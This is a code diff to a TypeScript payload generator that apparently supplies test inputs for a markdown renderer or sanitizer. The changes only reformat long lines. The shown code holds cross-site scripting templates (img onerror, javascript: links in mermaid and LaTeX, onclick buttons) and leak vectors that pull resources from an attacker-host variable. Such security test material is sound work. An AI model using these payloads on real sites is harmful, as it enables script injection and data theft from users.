@@ -24,7 +24,8 @@ const attributes: readonly ((value: string) => string)[] = [
   (value) => `![x](<https://example.com/a.png${value.replace(/[<>]/g, "\\$&")}>)`,
   (value) => `\`\`\`js${value.replaceAll(" ", "\u000C")}\ncode\n\`\`\``,
   (value) => `~~~ ${value}\ncode\n~~~`,
-  (value) => `x[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]\n\n[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]: y`,
+  (value) =>
+    `x[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]\n\n[^${value.replace(/\s/g, "\u000C").replace(/[[\]]/g, "")}]: y`,
   (value) => `> [!NOTE${value}]\n> x`,
   (value) => `# ${value.replace(/[<>]/g, "\\$&")}`,
   (value) => `[go](mailto:a@example.com?subject=${encodeURIComponent(value)})`,
@@ -107,9 +108,11 @@ export function* stylePayloads(): Generator<Template> {
     (id) => `\`\`\`js {style="${overlay}"}\n${id}\n\`\`\``,
     (id) => `[x]{style="${overlay}"} ==${id}== ++${id}++ ^${id}^ ~${id}~`,
     (id) => `$$\\href{javascript:${script(id)}}{x} \\includegraphics{${leak(id)}} \\htmlStyle{${overlay}}{x}$$`,
-    (id) => `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script(id)}>"]; click A "javascript:${script(id)}"\n\`\`\``,
+    (id) =>
+      `\`\`\`mermaid\ngraph TD; A["<img src=x onerror=${script(id)}>"]; click A "javascript:${script(id)}"\n\`\`\``,
     (id) => `\`\`\`html\n<style>@import "${leak(id)}"</style>\n\`\`\``,
-    (id) => `---\nlayout: ${attacker}/${id}\n---\n\n<button class="hw-send hw-md-offer" onclick="${script(id)}">Send</button>`,
+    (id) =>
+      `---\nlayout: ${attacker}/${id}\n---\n\n<button class="hw-send hw-md-offer" onclick="${script(id)}">Send</button>`,
     (id) => `*[HTML]: <img src=x onerror=${script(id)}>\n\nHTML ${id}`,
     (id) => `[[${script(id)}]] :${id}: @${id} #${id} <<${id}>>`,
   ];
